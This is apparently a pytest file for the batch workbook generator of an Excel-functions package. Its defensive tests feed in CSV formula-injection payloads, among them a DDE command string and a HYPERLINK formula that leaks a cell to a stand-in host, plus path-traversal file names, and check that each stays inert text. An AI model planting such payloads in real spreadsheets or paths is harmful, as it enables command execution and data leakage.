"""generate(): a workbook per scenario, in order, atomically, never clobbering or injecting."""

from __future__ import annotations

import csv
import io
import os
import re
import signal
import subprocess
import sys
import textwrap
import time
import zipfile
from concurrent.futures import ProcessPoolExecutor, ThreadPoolExecutor
from pathlib import Path

import pytest
from batch_processes_support import API_OPTION
from batch_standin import STANDIN
from openpyxl import load_workbook

import xlfuncs
from xlfuncs.batch.template import resolve_template
from xlfuncs.batch.write.filler import Filler, quoted_inputs
from xlfuncs.templates import TEMPLATE_NAMES

TCO = resolve_template("tco_comparison")
EXAMPLE = Path(xlfuncs.__file__).parent / "batch" / "example_scenarios.yaml"

# OWASP's CSV injection examples, and the other characters that start a formula.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "@SUM(1+1)",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "=1+1",
]


def standin_scenarios(count, prefix="case"):
    return [
        {
            "name": f"{prefix} {i}",
            "tasks_per_month": 1000 + i,
            "cost_per_error": 10,
            "options": [
                {"name": f"option {k}", "accuracy": 0.9 + k / 100, "cost_per_task": 0.01}
                for k in range(3)
            ],
        }
        for i in range(count)
    ]


# What a stand-in option must give: its cost and its accuracy (no neutral default).
STANDIN_OPTION = {"accuracy": 0.9, "cost_per_task": 0.01}


def parts(path_or_bytes):
    data = path_or_bytes if isinstance(path_or_bytes, bytes) else Path(path_or_bytes).read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {i.filename: archive.read(i) for i in archive.infolist()}


def test_one_workbook_per_scenario_in_the_files_order_and_a_summary(tmp_path):
    report = xlfuncs.generate(standin_scenarios(5), tmp_path, template=STANDIN)
    assert report.ok
    assert [o.file for o in report.outcomes] == [f"case {i}.xlsx" for i in range(5)]
    assert report.written == [tmp_path / f"case {i}.xlsx" for i in range(5)]
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        [f"case {i}.xlsx" for i in range(5)] + ["summary.csv", "summary.xlsx"]
    )
    rows = report.summary_rows()
    assert [(r[0], r[1]) for r in rows] == [
        (f"case {i}", f"option {k}") for i in range(5) for k in range(3)
    ]
    # The workbook holds the scenario's inputs.
    sheet = load_workbook(tmp_path / "case 3.xlsx")["Inputs"]
    assert (sheet["B2"].value, sheet["B3"].value) == ("case 3", 1003)


@pytest.mark.parametrize(
    "how",
    ["jobs=2", "process pool", "thread pool"],
)
def test_the_order_and_the_files_do_not_depend_on_the_executor(tmp_path, how):
    scenarios = standin_scenarios(40)
    serial = xlfuncs.generate(scenarios, tmp_path / "serial", template=STANDIN)
    if how == "jobs=2":
        parallel = xlfuncs.generate(scenarios, tmp_path / "parallel", template=STANDIN, jobs=2)
    else:
        pool = ProcessPoolExecutor(2) if how == "process pool" else ThreadPoolExecutor(3)
        with pool:
            parallel = xlfuncs.generate(
                scenarios, tmp_path / "parallel", template=STANDIN, executor=pool
            )
    assert parallel.outcomes == serial.outcomes
    same = (tmp_path / "serial" / "summary.csv").read_bytes()
    assert (tmp_path / "parallel" / "summary.csv").read_bytes() == same
    for outcome in serial.outcomes:
        name = outcome.file
        assert parts(tmp_path / "serial" / name) == parts(tmp_path / "parallel" / name), name


def fresh_and_filled(values):
    filler = Filler(TCO, quoted_inputs(values))
    built = Path(os.environ.get("TMPDIR", "/tmp")) / f"fresh-{os.getpid()}.xlsx"
    try:
        TCO.build(values, built)
        return parts(built), parts(filler.workbook_bytes(values))
    finally:
        built.unlink(missing_ok=True)


@pytest.mark.parametrize(
    "changes",
    [
        {},
        {"tasks_per_month": 123456.5, "months": 7, "a_accuracy": 0.123456789012345},
        {
            "a_name": "  spaces & <angle> brackets  ",
            "b_name": "Zürich \u2013 東京",
            "c_include": "No",
        },
        {"a_name": "=cmd|' /C calc'!A0", "d_name": "+1+1", "reference_option": "A"},
        {"b_pricing": "Self-hosted", "d_include": "No", "c_name": ""},
    ],
    ids=["defaults", "numbers", "text", "formula-like text", "choices"],
)
def test_a_filled_workbook_equals_a_fresh_build_part_by_part(changes):
    # A batch names every scenario; a book named for a scenario is a scenario's book.
    defaults = {spec.name: spec.default for spec in TCO.inputs}
    values = defaults | {"scenario": "A scenario"} | changes
    fresh, filled = fresh_and_filled(values)
    assert list(filled) == list(fresh)
    for name in fresh:
        # The builder fixes its timestamps, so even docProps/core.xml is the same.
        assert filled[name] == fresh[name], name


def test_existing_files_are_kept_unless_overwrite_and_skip_resumes(tmp_path):
    scenarios = standin_scenarios(3)
    xlfuncs.generate(scenarios[:1], tmp_path, template=STANDIN, summary=False)
    mine = tmp_path / "case 0.xlsx"
    mine.write_bytes(b"my own work")
    (tmp_path / "summary.csv").write_bytes(b"my own summary")

    refused = xlfuncs.generate(scenarios, tmp_path, template=STANDIN)
    assert not refused.ok
    assert [o.status for o in refused.outcomes[:3]] == ["failed", "written", "written"]
    assert "case 0.xlsx already exists" in refused.outcomes[0].reason
    assert refused.outcomes[-1].file == "summary.csv"  # the summary is not replaced either
    assert mine.read_bytes() == b"my own work"
    assert (tmp_path / "summary.csv").read_bytes() == b"my own summary"

    resumed = xlfuncs.generate(scenarios, tmp_path, template=STANDIN, skip_existing=True)
    # The two this batch made are kept; the file it did not make is kept too,
    # but as a failure: nothing says it holds the scenario.
    assert [o.status for o in resumed.outcomes[:3]] == ["failed", "skipped", "skipped"]
    assert "use --overwrite to replace it" in resumed.outcomes[0].reason
    assert mine.read_bytes() == b"my own work"
    assert len(resumed.summary_rows()) == 9  # the whole batch, skipped ones included

    replaced = xlfuncs.generate(scenarios, tmp_path, template=STANDIN, overwrite=True)
    assert [o.status for o in replaced.outcomes] == ["written"] * 3
    assert load_workbook(mine)["Inputs"]["B2"].value == "case 0"
    with pytest.raises(ValueError, match="not both"):
        xlfuncs.generate(scenarios, tmp_path, template=STANDIN, overwrite=True, skip_existing=True)


def bad_csv(path):
    rows = [
        "scenario,option,tasks_per_month,accuracy,cost_per_task,cost_per_error",
        "good 1,a,100,0.9,0.01,10",
        "good 1,b,100,0.9,0.01,10",
        "good 1,c,100,0.9,0.01,10",
        "bad,a,100,95,0.01,10",
        "bad,b,100,0.9,0.01,10",
        "bad,c,100,0.9,0.01,10",
        "good 2,a,100,0.9,0.01,10",
        "good 2,b,100,0.9,0.01,10",
        "good 2,c,100,0.9,0.01,10",
    ]
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    return path


def test_a_bad_scenario_is_reported_and_the_others_still_written(tmp_path):
    source = bad_csv(tmp_path / "cases.csv")
    report = xlfuncs.generate(source, tmp_path / "out", template=STANDIN)
    assert [o.status for o in report.outcomes] == ["written", "failed", "written"]
    failure = report.failures[0]
    assert failure.scenario == "bad"
    assert failure.reason == (
        f"{source}, row 5, column 'accuracy': accuracy must be between 0 and 1, got 95 "
        "(enter 95% or 0.95)"
    )
    assert not report.ok
    assert [r[0] for r in report.summary_rows()] == ["good 1"] * 3 + ["good 2"] * 3


def test_fail_fast_stops_at_the_first_failure(tmp_path):
    report = xlfuncs.generate(
        bad_csv(tmp_path / "cases.csv"), tmp_path / "out", template=STANDIN, fail_fast=True
    )
    assert [o.status for o in report.outcomes] == ["written", "failed"]
    assert not (tmp_path / "out" / "good 2.xlsx").exists()


def formulas(path):
    """Every formula in a workbook, as stored in its sheets' XML."""
    found = []
    for name, data in parts(path).items():
        if name.startswith("xl/worksheets/"):
            # A formula's text holds no "<" (escaped); a shared formula's other cells are
            # empty elements (<f t="shared" si="1"/>), which hold none.
            found += re.findall(r"<f\b[^>]*(?<!/)>([^<]*)</f>", data.decode("utf-8"))
    return found


def test_text_from_scenario_files_never_becomes_a_formula(tmp_path):
    scenarios = [
        {
            "name": payload,
            "tasks_per_month": 1000,
            "reference_option": "A",
            "options": [{"name": p, **API_OPTION} for p in PAYLOADS[:4]],
        }
        for payload in PAYLOADS
    ]
    report = xlfuncs.generate(scenarios, tmp_path, template=TCO)
    assert report.ok, report.failures
    outputs = [*report.written, tmp_path / "summary.xlsx"]
    pieces = [p.lstrip("\t=+-@") for p in PAYLOADS]
    for path in outputs:
        for formula in formulas(path):
            # A payload run as a formula is its whole text; the short ones ("1+1") also
            # occur inside the template's own formulas (HDR's constants 2000371+1800451).
            body = formula.lstrip("=")
            run = [p for p in pieces if body == p or (len(p) >= 8 and p in formula)]
            assert run == [], (path.name, formula)
    # The names are there, as text.
    book = load_workbook(report.written[0])
    cells = [book.defined_names[f"{x}_name"].attr_text.split("!")[1] for x in "abcd"]
    assert [book["Inputs"][c.replace("$", "")].value for c in cells] == PAYLOADS[:4]
    summary = load_workbook(tmp_path / "summary.xlsx")["Summary"]
    texts = {c.value for row in summary.iter_rows() for c in row if c.data_type == "s"}
    names = [p.strip() for p in PAYLOADS]  # names are trimmed of surrounding white space
    assert set(names) <= texts
    # In the CSV, each starts with a single quote, so no spreadsheet runs it.
    with (tmp_path / "summary.csv").open(encoding="utf-8-sig", newline="") as stream:
        cells = [c for row in csv.reader(stream) for c in row[:4] + row[-1:]]
    for name in names:
        assert "'" + name in cells
        assert name not in cells


def test_hostile_scenario_names_give_safe_distinct_files_in_the_folder(tmp_path):
    names = [
        "a/b",
        "a\\b",
        "../../escape",
        "/etc/passwd",
        "C:\\Windows\\win.ini",
        "CON",
        "nul",
        "COM1.txt",
        "trailing. . ",
        "x" * 300,
        "x" * 301,
        "tab\there",
        "A_B",
        "summary",
    ]
    scenarios = [
        {
            "name": n,
            "tasks_per_month": 10,
            "cost_per_error": 10,
            "options": [{"name": k, **STANDIN_OPTION} for k in "xyz"],
        }
        for n in [*names, "nul\x00byte"]
    ]
    out = tmp_path / "out"
    report = xlfuncs.generate(scenarios, out, template=STANDIN)
    files = [o.file for o in report.outcomes[: len(names)]]
    assert len({f.casefold() for f in files}) == len(names)
    for path in out.iterdir():
        assert path.resolve().parent == out.resolve()
    assert sorted(p.name for p in out.iterdir()) == sorted([*files, "summary.csv", "summary.xlsx"])
    # A workbook cannot hold NUL: that scenario fails and says why.
    assert report.outcomes[-1].status == "failed"
    assert "control character \\x00, which a workbook cannot hold" in report.outcomes[-1].reason
    assert load_workbook(out / files[2])["Inputs"]["B2"].value == "../../escape"


KILLED_RUN = textwrap.dedent(
    """
    import sys
    import xlfuncs
    scenarios = (
        {{"name": f"case {{i}}", "tasks_per_month": 1000 + i, "cost_per_error": 10,
          "options": [{{"name": k, "accuracy": 0.9, "cost_per_task": 0.01}} for k in "xyz"]}}
        for i in range({count})
    )
    sys.path.insert(0, {tests!r})
    from batch_standin import STANDIN
    xlfuncs.generate(scenarios, sys.argv[1], template=STANDIN, jobs={jobs})
    """
)


@pytest.mark.parametrize("jobs", [1, 2])
def test_a_killed_run_leaves_only_complete_workbooks(tmp_path, jobs):
    out = tmp_path / "out"
    script = KILLED_RUN.format(count=100_000, tests=str(Path(__file__).parent), jobs=jobs)
    process = subprocess.Popen([sys.executable, "-c", script, str(out)], start_new_session=True)
    try:
        deadline = time.monotonic() + 60
        while len(list(out.glob("*.xlsx"))) < 40 and time.monotonic() < deadline:
            assert process.poll() is None, "the batch ended before it could be killed"
            time.sleep(0.01)
    finally:
        os.killpg(process.pid, signal.SIGKILL)  # the batch and its worker processes
        process.wait()
    workbooks = sorted(out.glob("*.xlsx"))
    assert len(workbooks) >= 40
    for path in workbooks:
        number = int(path.stem.split()[-1])
        sheet = load_workbook(path, read_only=True)["Inputs"]
        assert (sheet["B2"].value, sheet["B3"].value) == (f"case {number}", 1000 + number)
    leftovers = [p.name for p in out.iterdir() if p.suffix != ".xlsx"]
    assert all(name.endswith(".part") for name in leftovers)


def test_the_bundled_example_runs(tmp_path):
    report = xlfuncs.generate(EXAMPLE, tmp_path)
    assert report.ok, report.failures
    assert len(report.written) == 5
    assert len(report.summary_rows()) == 11


def test_excel_functions_start_without_the_batch_modules():
    code = (
        "import sys, xlfuncs.udfs; "
        "heavy = ('openpyxl', 'yaml', 'xlfuncs.batch', 'tqdm'); "
        "print(sorted(m for m in heavy if m in sys.modules)); "
        "import xlfuncs; print(callable(xlfuncs.generate), 'generate' in xlfuncs.__all__)"
    )
    result = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True
    )
    assert result.stdout.split("\n")[:2] == ["[]", "True True"]


@pytest.mark.parametrize("name", TEMPLATE_NAMES)
def test_every_template_is_found_by_its_name(name):
    # Each shipped template resolves by the name users type, whatever its
    # module is called, and messages use that name.
    assert resolve_template(name).name == name


def test_a_template_other_than_tco_comparison_writes_a_workbook(tmp_path):
    # breakeven_accuracy has no options: a scenario is its name and inputs.
    report = xlfuncs.generate(
        [
            {
                "name": "Support desk",
                "efficient_accuracy": 0.95,
                "efficient_cost_per_task": 0.002,
                "frontier_accuracy": 0.99,
                "frontier_cost_per_task": 0.05,
                "cost_per_error": 10,
                "tasks_per_month": 20_000,
            }
        ],
        tmp_path,
        template="breakeven_accuracy",
    )
    assert report.ok, report.failures
    [path] = report.written
    assert path.name == "Support desk.xlsx"
    book = load_workbook(path)
    [(sheet, cell)] = book.defined_names["efficient_accuracy"].destinations
    assert book[sheet][cell.replace("$", "")].value == 0.95
